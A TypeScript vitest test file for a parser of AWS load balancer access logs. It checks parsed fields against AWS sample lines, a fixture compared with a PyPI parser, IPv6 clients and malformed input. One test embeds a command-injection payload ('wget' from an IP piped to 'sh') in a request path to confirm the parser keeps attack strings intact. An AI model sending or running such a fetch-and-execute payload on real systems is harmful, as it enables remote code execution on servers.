import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { parseLoadBalancerLog } from '../../src/parsers/load-balancer-log.js';

// Lines of AWS's own documentation.
const APPLICATION =
  'https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-"';
const CLASSIC =
  '2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -';
const TCP =
  '2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 "- - - " "-" - -';

describe('access logs of load balancers', () => {
  it('are read in both forms', () => {
    expect(parseLoadBalancerLog(APPLICATION)).toEqual({
      atMs: Date.parse('2018-07-02T22:23:00.186Z'),
      client: '192.168.131.39',
      user: '-',
      method: 'GET',
      target: 'https://www.example.com:443/',
      status: 200,
      bytes: 57,
      referer: undefined,
      agent: 'curl/7.46.0',
    });
    expect(parseLoadBalancerLog(CLASSIC)).toMatchObject({
      atMs: Date.parse('2015-05-13T23:39:43.945Z'),
      client: '192.168.131.39',
      target: 'http://www.example.com:80/',
      bytes: 29,
      agent: 'curl/7.38.0',
    });
    expect(parseLoadBalancerLog(TCP)).toMatchObject({ method: '-', status: 0, bytes: 305, agent: undefined });
  });

  it('say what elblog2dict 1.0.1 of PyPI says, which reads them by the expression of AWS’s own table for Athena', () => {
    const bytes = readFileSync(new URL('fixtures/load-balancer.json.gz', import.meta.url));
    const { lines, parsed }: { lines: string[]; parsed: Record<string, string>[] } = JSON.parse(
      gunzipSync(bytes).toString('utf8'),
    );
    expect(lines).toHaveLength(120);
    for (const [index, theirs] of parsed.entries())
      expect(parseLoadBalancerLog(lines[index] ?? '')).toEqual({
        atMs: Date.parse(theirs['timestamp'] ?? ''),
        client: theirs['client_ip']?.replace(/[[\]]/g, ''),
        user: '-',
        method: theirs['request_method'],
        target: theirs['url'],
        status: Number(theirs['elb_status_code']),
        bytes: Number(theirs['sent_bytes']),
        referer: undefined,
        agent: theirs['user_agent'] === '-' ? undefined : theirs['user_agent'],
      });
  });

  it('keep what stands behind a blank in the address: it may be the attack', () => {
    const line = APPLICATION.replace(':443/ HTTP', ':443/shell?wget+ 203.0.113.66/x;sh+x HTTP');
    expect(parseLoadBalancerLog(line)?.target).toBe(
      'https://www.example.com:443/shell?wget+ 203.0.113.66/x;sh+x',
    );
    for (const request of ['- http://x:80- -', '- http://x:80- '])
      expect(parseLoadBalancerLog(APPLICATION.replace(/"GET [^"]*"/, `"${request}"`))).toMatchObject({
        method: '-',
        target: 'http://x:80-',
      });
  });

  it('take clients of IPv6, and agents with quotes', () => {
    const line = APPLICATION.replace('192.168.131.39:2817', '[2001:db8::7]:2817').replace(
      'curl/7.46.0',
      'a \\" b',
    );
    expect(parseLoadBalancerLog(line)).toMatchObject({ client: '2001:db8::7', agent: 'a \\" b' });
  });

  it.each(['', '"', ' "', 'x "GET / HTTP/1.1"', CLASSIC.slice(30), APPLICATION.slice(0, 150)])(
    'say that %j is no line of one',
    (line) => {
      expect(parseLoadBalancerLog(line)).toBeUndefined();
    },
  );
});
